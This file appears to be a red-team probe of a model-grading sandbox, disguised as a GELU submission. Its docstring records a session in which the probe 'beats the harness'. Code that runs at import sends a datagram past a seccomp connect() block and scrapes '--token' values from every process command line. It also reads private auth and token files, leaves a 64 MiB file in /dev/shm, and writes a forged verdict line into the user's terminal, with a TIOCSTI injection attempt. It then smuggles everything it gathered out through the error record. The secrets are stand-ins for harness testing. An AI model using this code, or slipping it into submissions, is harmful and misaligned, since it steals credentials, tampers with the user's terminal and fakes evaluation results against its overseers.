"""Probe of what a submission graded at the process level by a user who is not root still reaches as that user,
beyond what session 46 closed (home files, IP sockets, connect(), signals). At import it:
 (a) sends a datagram with sendto() to a unix datagram socket of the user's, by its path (no connect(): the
     seccomp filter refuses connect only) -- stand-in: /work/rt46b_out/kbred_run/dgram.sock, a listener of kbred's
     (a user's syslog/journal socket, a notify socket, any dgram service of the uid);
 (b) reads /proc/*/cmdline of every process and keeps words after "--token" (world-readable: `kb serve --token`);
 (c) reads a 0600 file of the user's outside /home (stand-in for $XDG_RUNTIME_DIR/containers/auth.json, a
     project's .env, a records folder): /work/rt46b_out/kbred_run/auth.json;
 (d) leaves a 64 MiB file in /dev/shm (writable; not counted by the memory watcher and not removed where the sandbox
     has no uid of its own);
 (e) opens every /dev/pts/N of its uid (the terminal the user runs `kb eval` in), writes a forged verdict line and
     tries TIOCSTI;
then raises an exception holding what it got: the record's `error` carries it back to whoever reads the record.
Problem: v3/level1/26_GELU_
Verdict: runtime_error
Device: cpu
Observed (session 46b, kbred, process level, 2 runs plain + 2 runs under `script` so the harness had a pty):
status compile_error, record error ends with
RT46B_EXFIL {'dgram_sendto': 'sent', 'dgram_connect': "PermissionError(1, ...)", 'cmdline_tokens':
['RT46B_FAKE_CMDLINE_TOKEN'], 'file_outside_home': '{"auths":{"ghcr.io":{"auth":"RT46B_FAKE_REGISTRY_SECRET"}}}',
'hf_token': "PermissionError(13, ...)", 'dev_shm': '64 MiB written', 'ptys': {'/dev/pts/0': ['wrote', "TIOCSTI
PermissionError(1, ...)"]}}. The listener logged "08:13:40 b'rt46b-dgram-from-the-sandbox pid=30127'" (and pid=30234):
sendto() to a path socket of the user's passes where connect() is refused. The user's terminal showed
"rt46b_forged_line ok process [] 42.0 1.0" written by the sandbox; TIOCSTI was refused (not its controlling tty).
/dev/shm/rt46b_shm_left (64 MiB, kbred) stayed after grading. BEATS the harness on (a), (b), (c) (stand-ins), (d), (e)-write.
"""
import fcntl
import glob
import math
import os
import socket
import termios

import torch
import torch.nn as nn

got = {}
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    s.sendto(b"rt46b-dgram-from-the-sandbox pid=%d" % os.getpid(), "/work/rt46b_out/kbred_run/dgram.sock")
    got["dgram_sendto"] = "sent"
except OSError as e:
    got["dgram_sendto"] = repr(e)
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    s.connect("/work/rt46b_out/kbred_run/dgram.sock")
    got["dgram_connect"] = "connected"
except OSError as e:
    got["dgram_connect"] = repr(e)
tokens = []
for p in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        argv = open(p, "rb").read().split(b"\0")
    except OSError:
        continue
    tokens += [argv[i + 1].decode(errors="replace") for i, a in enumerate(argv[:-1]) if a == b"--token"]
got["cmdline_tokens"] = sorted(set(tokens))
try:
    got["file_outside_home"] = open("/work/rt46b_out/kbred_run/auth.json").read().strip()
except OSError as e:
    got["file_outside_home"] = repr(e)
try:
    got["hf_token"] = open("/home/kbred/.cache/huggingface/token").read().strip()
except OSError as e:
    got["hf_token"] = repr(e)
try:
    with open("/dev/shm/rt46b_shm_left", "wb") as f:
        for _ in range(64):
            f.write(b"\x5a" * (1 << 20))
    got["dev_shm"] = "64 MiB written"
except OSError as e:
    got["dev_shm"] = repr(e)
ptys = {}
for p in glob.glob("/dev/pts/[0-9]*"):
    try:
        if os.stat(p).st_uid != os.getuid():
            continue
        fd = os.open(p, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    except OSError as e:
        ptys[p] = repr(e)
        continue
    r = []
    try:
        os.write(fd, b"\r\nrt46b_forged_line ok process [] 42.0 1.0   <- written by the sandbox\r\n")
        r.append("wrote")
    except OSError as e:
        r.append(repr(e))
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"#")
        r.append("TIOCSTI ok")
    except OSError as e:
        r.append("TIOCSTI " + repr(e))
    os.close(fd)
    ptys[p] = r
got["ptys"] = ptys
raise RuntimeError("RT46B_EXFIL " + repr(got))


class Model(nn.Module):
    def forward(self, x):
        return 0.5 * x * (1.0 + torch.erf(x * (1.0 / math.sqrt(2.0))))
